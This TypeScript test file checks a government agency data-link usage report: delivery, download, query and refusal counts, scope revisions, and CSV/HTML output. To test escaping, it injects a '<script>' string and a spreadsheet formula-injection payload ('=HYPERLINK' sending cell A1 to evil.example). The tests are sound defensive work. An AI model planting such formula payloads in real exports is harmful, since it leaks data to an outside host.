import { addDays, taipeiDate } from '../../src/domain';
import { loadCatalogs } from '../../src/registry';
import { reportCsv, reportHtml, usageReport, type LogEntry } from '../../src/usagelog';
import { spreadsheetSafe } from '../../src/usagelog/csv-safe';
import { approvedLink, cleanupKeys, makeAgencyKeys, servicesOn, TestClock, type AgencyKeys } from '../helpers/world';
import { logWorld, type LogWorld } from './usagelog-world';

let keys: AgencyKeys;
let w: LogWorld;
let link1: number;
let link2: number;
let link3: number;
beforeAll(() => (keys = makeAgencyKeys()));
afterAll(() => cleanupKeys(keys));

/**
 * A log built by the test: two links of A001, one of A002, records in January to March 2026 (Taipei),
 * plus records just outside the period.
 */
beforeEach(async () => {
  w = await logWorld();
  const world = servicesOn(w.cdb);
  link1 = await approvedLink(world, keys);
  link2 = await approvedLink(world, keys, { account: 'a001b' });
  await world.registry.addAgency({ code: 'A002', name: '勞動部' }, 'test');
  link3 = await approvedLink(world, keys, { agency: 'A002', account: 'a002' });
  const add = (when: string, e: LogEntry) => w.append(e, when);
  const built = (when: string, linkId: number, rows: number, fields: string, agency = 'A001') =>
    add(when, { type: 'extract.built', agency, linkId, revision: 1, actor: 'worker', channel: 'extract', object: `D-${when}`, detail: { rows, fields, bytes: rows * 10 } });
  const dl = (when: string, linkId: number, account: string, ip: string, bytes: number, result: string) =>
    add(when, { type: 'file.downloaded', agency: 'A001', linkId, actor: account, ip, channel: 'sftp-pull', object: `f-${when}`, detail: { bytes, result } });
  // 2025-12-31 23:59 Taipei: outside. 2026-01-01 00:00 Taipei: inside.
  await built('2025-12-31T15:59:00.000Z', link1, 999, 'person_id');
  await built('2025-12-31T16:00:00.000Z', link1, 100, 'person_id,nationality:mask');
  await dl('2026-01-11T02:00:00.000Z', link1, 'a001', '10.0.0.1', 1000, 'complete');
  await dl('2026-01-12T02:00:00.000Z', link1, 'a001', '10.0.0.2', 500, 'partial');
  await add('2026-01-20T02:00:00.000Z', { type: 'auth.failed', agency: 'A001', linkId: link1, actor: 'a001', ip: '10.0.0.9', detail: { method: 'publickey', reason: 'key.unknown' } });
  await add('2026-01-20T02:01:00.000Z', { type: 'auth.failed', agency: 'A001', linkId: link1, actor: 'a001', ip: '10.0.0.9', detail: { method: 'publickey', reason: 'signature.invalid' } });
  await add('2026-01-20T02:02:00.000Z', { type: 'auth.failed', ip: '10.0.0.66', detail: { method: 'publickey', reason: 'account.unknown', username: 'root' } });
  await built('2026-02-05T02:00:00.000Z', link1, 50, 'person_id,nationality:mask');
  await built('2026-02-06T02:00:00.000Z', link2, 10, 'person_id');
  await dl('2026-02-06T03:00:00.000Z', link1, 'a001', '10.0.0.1', 2000, 'complete');
  await built('2026-02-07T02:00:00.000Z', link3, 7777, 'person_id', 'A002');
  await add('2026-03-01T02:00:00.000Z', { type: 'file.pushed', agency: 'A001', linkId: link1, actor: 'worker', channel: 'sftp-push', object: 'p1', detail: { bytes: 300 } });
  await built('2026-03-31T16:00:00.000Z', link1, 888, 'person_id'); // 2026-04-01 Taipei: outside
});
afterEach(() => w.close());

const NOW = new Date('2026-04-02T00:00:00Z');

describe('report usage (R4.2, R6.4, R9.1)', () => {
  it("one link's figures match the log", async () => {
    const r = await usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
    expect(r.scope).toEqual({ agency: 'A001', linkId: link1, links: [link1] });
    expect(r.deliveries).toEqual({ count: 2, rows: 150, bytes: 1500, byLink: [{ linkId: link1, count: 2, rows: 150 }] });
    expect(r.fields).toEqual([
      { field: 'person_id', deliveries: 2, rows: 150 },
      { field: 'nationality:mask', deliveries: 2, rows: 150 },
    ]);
    expect(r.downloads).toEqual({
      count: 3,
      complete: 2,
      partial: 1,
      bytes: 3500,
      byAccountIp: [
        { account: 'a001', ip: '10.0.0.1', count: 2, complete: 2, partial: 0, bytes: 3000 },
        { account: 'a001', ip: '10.0.0.2', count: 1, complete: 0, partial: 1, bytes: 500 },
      ],
    });
    expect(r.pushes).toEqual({ count: 1, bytes: 300, byLink: [{ linkId: link1, count: 1 }] });
    expect(r.failedLogins).toEqual({ count: 2, byIpAccount: [{ ip: '10.0.0.9', account: 'a001', count: 2, reasons: { 'key.unknown': 1, 'signature.invalid': 1 } }] });
    expect(r.months).toEqual([
      { month: '2026-01', deliveries: 1, rows: 100, downloads: 2, bytesDownloaded: 1500, pushes: 0, failedLogins: 2, queries: 0, idsAsked: 0 },
      { month: '2026-02', deliveries: 1, rows: 50, downloads: 1, bytesDownloaded: 2000, pushes: 0, failedLogins: 0, queries: 0, idsAsked: 0 },
      { month: '2026-03', deliveries: 0, rows: 0, downloads: 0, bytesDownloaded: 0, pushes: 1, failedLogins: 0, queries: 0, idsAsked: 0 },
    ]);
    expect(r.events).toEqual({ 'extract.built': 2, 'file.downloaded': 3, 'auth.failed': 2, 'file.pushed': 1 });
  });

  it("an agency's report covers its links and nothing of other agencies", async () => {
    const r = await usageReport(w.cdb, { agency: 'a001' }, '2026-01-01', '2026-03-31', NOW);
    expect(r.scope).toEqual({ agency: 'A001', linkId: null, links: [link1, link2] });
    expect(r.deliveries).toMatchObject({ count: 3, rows: 160, byLink: [{ linkId: link1, count: 2, rows: 150 }, { linkId: link2, count: 1, rows: 10 }] });
    expect(r.fields).toEqual([
      { field: 'person_id', deliveries: 3, rows: 160 },
      { field: 'nationality:mask', deliveries: 2, rows: 150 },
    ]);
    expect(r.months.map((m) => m.deliveries)).toEqual([1, 2, 0]);
    expect((await usageReport(w.cdb, { agency: 'A002' }, '2026-01-01', '2026-03-31', NOW)).deliveries).toMatchObject({ count: 1, rows: 7777 });
  });

  it('CSV and HTML carry the same figures; HTML escapes what the log holds', async () => {
    await w.append({ type: 'file.downloaded', agency: 'A001', linkId: link1, actor: '<script>x</script>', ip: '10.0.0.1', detail: { bytes: 1, result: 'complete' } }, '2026-03-02T02:00:00.000Z');
    const r = await usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
    const csv = reportCsv(r);
    expect(csv.split('\r\n')[0]).toBe('section,key,metric,value');
    expect(csv).toContain('deliveries,total,rows,150\r\n');
    expect(csv).toContain('downloads,a001@10.0.0.1,bytes,3000\r\n');
    expect(csv).toContain('month,2026-02,bytesDownloaded,2000\r\n');
    expect(csv).toContain('field,nationality:mask,rows,150\r\n');
    const html = reportHtml(r);
    expect(html).toContain('&lt;script&gt;x&lt;/script&gt;');
    expect(html).not.toContain('<script>');
    expect(html).toMatch(/<td>2026-01<\/td><td class="n">1<\/td><td class="n">100<\/td>/);
  });

  describe('the online query (R4.2, R3.5)', () => {
    const answered = (when: string, linkId: number, ip: string, reference: string, ids: number, found: number | undefined, returned: number, agency = 'A001') =>
      w.append(
        { type: 'query.answered', agency, linkId, revision: 1, actor: 'cert:0123456789abcdef', ip, channel: 'online-query', object: 'entry_exit', detail: { ids, ...(found === undefined ? {} : { found }), returned, reference, idHashes: Array.from({ length: ids }, (_, i) => `h${i}`), cert: '0123456789abcdef', idsToday: ids } },
        when,
      );
    const refused = (when: string, linkId: number, ip: string, detail: Record<string, unknown>) =>
      w.append({ type: 'query.refused', agency: 'A001', linkId, revision: 1, actor: 'cert:0123456789abcdef', ip, channel: 'online-query', object: 'entry_exit', detail }, when);
    beforeEach(async () => {
      await answered('2026-02-10T02:00:00.000Z', link1, '10.0.0.1', 'REF-1', 3, 2, 5);
      await answered('2026-02-10T03:00:00.000Z', link1, '10.0.0.2', 'REF-1', 2, 0, 0);
      await answered('2026-02-11T02:00:00.000Z', link1, '10.0.0.1', 'REF-2', 4, undefined, 4); // written before `found` was
      await refused('2026-02-12T02:00:00.000Z', link1, '10.0.0.1', { code: 'cap.reached', ids: 10, reference: 'REF-3' });
      await refused('2026-02-12T02:01:00.000Z', link1, '203.0.113.5', { code: 'ip.not-allowed' });
      await refused('2026-02-12T02:02:00.000Z', link1, '10.0.0.1', { code: 'rate.limited', reference: 'REF-1' });
      // Refusals no rate limit bounds come once per interval with their count.
      await refused('2026-02-12T02:03:00.000Z', link1, '10.0.0.1', { code: 'rate.limited', count: 40, interval: 60 });
      await answered('2026-03-05T02:00:00.000Z', link2, '10.0.0.3', 'REF-9', 1, 1, 1);
      await answered('2026-03-05T02:00:00.000Z', link3, '10.0.0.4', 'REF-X', 100, 100, 100, 'A002');
      await answered('2026-03-31T16:00:00.000Z', link1, '10.0.0.1', 'REF-1', 50, 50, 50); // 2026-04-01 Taipei: outside
    });

    it("R4.2 report usage counts a link's look-ups: requests, identifiers asked and found, by reference, address and link, refusals by code (aggregated refusals by their count)", async () => {
      const r = await usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
      expect(r.queries).toEqual({
        requests: 46,
        answered: 3,
        refused: 43,
        idsAsked: 9,
        idsFound: 2,
        idsFoundUnknown: 4,
        recordsReturned: 9,
        byReference: [
          { reference: 'REF-1', requests: 3, ids: 5, found: 2 },
          { reference: 'REF-2', requests: 1, ids: 4, found: 0 },
          { reference: 'REF-3', requests: 1, ids: 0, found: 0 },
        ],
        byIp: [
          { ip: '10.0.0.1', requests: 44, ids: 7, found: 2 },
          { ip: '10.0.0.2', requests: 1, ids: 2, found: 0 },
          { ip: '203.0.113.5', requests: 1, ids: 0, found: 0 },
        ],
        byLink: [{ linkId: link1, requests: 46, ids: 9, found: 2 }],
        refusedByCode: { 'cap.reached': 1, 'ip.not-allowed': 1, 'rate.limited': 41 },
      });
      expect(r.months.map((m) => [m.month, m.queries, m.idsAsked])).toEqual([
        ['2026-01', 0, 0],
        ['2026-02', 3, 9],
        ['2026-03', 0, 0],
      ]);
    });

    it("R4.2 an agency's look-ups are per link and nothing of another agency's", async () => {
      const r = await usageReport(w.cdb, { agency: 'A001' }, '2026-01-01', '2026-03-31', NOW);
      expect(r.queries).toMatchObject({ requests: 47, answered: 4, idsAsked: 10, idsFound: 3 });
      expect(r.queries.byLink).toEqual([
        { linkId: link1, requests: 46, ids: 9, found: 2 },
        { linkId: link2, requests: 1, ids: 1, found: 1 },
      ]);
      expect(r.queries.byReference.map((q) => q.reference)).not.toContain('REF-X');
    });

    it('R4.2 CSV and HTML carry the look-ups', async () => {
      const r = await usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW);
      const csv = reportCsv(r);
      expect(csv).toContain('queries,total,idsAsked,9\r\n');
      expect(csv).toContain('queries,total,idsFoundUnknown,4\r\n');
      expect(csv).toContain('query-reference,REF-1,found,2\r\n');
      expect(csv).toContain('query-ip,10.0.0.1,requests,44\r\n');
      expect(csv).toContain('query-refused,cap.reached,count,1\r\n');
      expect(csv).toContain('month,2026-02,idsAsked,9\r\n');
      const html = reportHtml(r);
      expect(html).toContain('46 requests: 3 answered, 43 refused. 9 identifiers asked, 2 found (4 more asked in look-ups logged without the count found), 9 records returned.');
      expect(html).toMatch(/<td>REF-1<\/td><td class="n">3<\/td><td class="n">5<\/td><td class="n">2<\/td>/);
      expect(html).toMatch(/<td>rate\.limited<\/td><td class="n">41<\/td>/);
    });
  });

  it('R4.2 R3.4 each revision in force in the period appears with its scope in words, in JSON, CSV and HTML', async () => {
    const clock = new TestClock();
    const world = servicesOn(w.cdb, clock);
    const approvedAt = clock.now();
    const id = await approvedLink(world, keys, { account: 'a001c', scope: { text: 'nationality in VNM,IDN' } });
    clock.advanceDays(10);
    const cr = await world.registry.fileChange(id, 'scope', { value: 'nationality in VNM' }, 'agency');
    clock.advanceDays(1);
    await world.registry.approveChange(cr.id, 'nia');
    const d0 = taipeiDate(approvedAt);
    const d11 = taipeiDate(clock.now());
    const catalogs = loadCatalogs();

    const r = await usageReport(w.cdb, { linkId: id }, d0, addDays(d0, 20), NOW, catalogs);
    expect(r.scopes).toEqual([
      { linkId: id, revision: 1, from: d0, until: d11, scope: { all: false, conditions: [{ field: 'nationality', op: 'in', values: ['VNM', 'IDN'] }] }, text: '國籍：越南、印尼' },
      { linkId: id, revision: 2, from: d11, until: null, scope: { all: false, conditions: [{ field: 'nationality', op: 'in', values: ['VNM'] }] }, text: '國籍：越南' },
    ]);
    expect(reportCsv(r)).toContain(`revision-scope,link ${id} revision 2,text,國籍：越南\r\n`);
    expect(reportCsv(r)).toContain(`revision-scope,link ${id} revision 1,scope,"nationality in VNM,IDN"\r\n`);
    expect(reportHtml(r)).toContain(`<td class="n">${id}</td><td class="n">2</td><td>${d11}</td><td>-</td><td>國籍：越南</td>`);
    // After the change only the new scope was in force; before the approval none was.
    expect((await usageReport(w.cdb, { linkId: id }, addDays(d11, 1), addDays(d11, 9), NOW, catalogs)).scopes.map((s) => s.revision)).toEqual([2]);
    expect((await usageReport(w.cdb, { linkId: id }, addDays(d0, -30), addDays(d0, -1), NOW, catalogs)).scopes).toEqual([]);
    // The agency's report names the scope of each of its links, the whole-dataset ones with their justification.
    const agency = await usageReport(w.cdb, { agency: 'A001' }, d0, addDays(d0, 20), NOW, catalogs);
    expect(agency.scopes.find((s) => s.linkId === link1)).toMatchObject({ revision: 1, until: null, text: '全部資料（理由：test: the whole dataset）' });
    expect(agency.scopes.map((s) => s.linkId)).not.toContain(link3);
  });

  it('R4.2 CSV formulas: a cell a spreadsheet would run (=HYPERLINK, +, -, @, tab, CR) comes out as text', async () => {
    const evil = '=HYPERLINK("http://evil.example/?d="&A1,"case")';
    await w.append({ type: 'query.answered', agency: 'A001', linkId: link1, actor: 'cert:0123456789abcdef', ip: '10.0.0.1', channel: 'online-query', object: 'entry_exit', detail: { ids: 1, found: 1, returned: 1, reference: evil, idHashes: ['h'], cert: 'c', idsToday: 1 } }, '2026-03-02T02:00:00.000Z');
    await w.append({ type: 'file.downloaded', agency: 'A001', linkId: link1, actor: '@SUM(1+1)', ip: '10.0.0.1', detail: { bytes: 1, result: 'complete' } }, '2026-03-02T02:00:00.000Z');
    const csv = reportCsv(await usageReport(w.cdb, { linkId: link1 }, '2026-01-01', '2026-03-31', NOW));
    expect(csv).toContain(`query-reference,"'=HYPERLINK(""http://evil.example/?d=""&A1,""case"")",requests,1\r\n`);
    expect(csv).toContain("downloads,'@SUM(1+1)@10.0.0.1,count,1\r\n");
    expect(csv.split('\r\n').some((line) => /(^|,)"?[=+\-@\t\r]/.test(line))).toBe(false);
    expect(['=1+1', '+1', '-1', '@A1', '\tx', '\rx', 'plain', null, -1, 0].map(spreadsheetSafe)).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", 'plain', '', '-1', '0']);
  });

  it('refuses a scope that does not exist or is ambiguous', async () => {
    await expect(usageReport(w.cdb, {}, '2026-01-01', '2026-03-31', NOW)).rejects.toThrow(/give an agency or a link \(one of them\)/);
    await expect(usageReport(w.cdb, { agency: 'A001', linkId: 1 }, '2026-01-01', '2026-03-31', NOW)).rejects.toThrow(/one of them/);
    await expect(usageReport(w.cdb, { agency: 'Z999' }, '2026-01-01', '2026-03-31', NOW)).rejects.toThrow(/no agency Z999/);
    await expect(usageReport(w.cdb, { linkId: 999 }, '2026-01-01', '2026-03-31', NOW)).rejects.toThrow(/no link 999/);
    await expect(usageReport(w.cdb, { linkId: link1 }, '2026-03-31', '2026-01-01', NOW)).rejects.toThrow(/the period's end 2026-01-01 is before its start 2026-03-31/);
  });
});
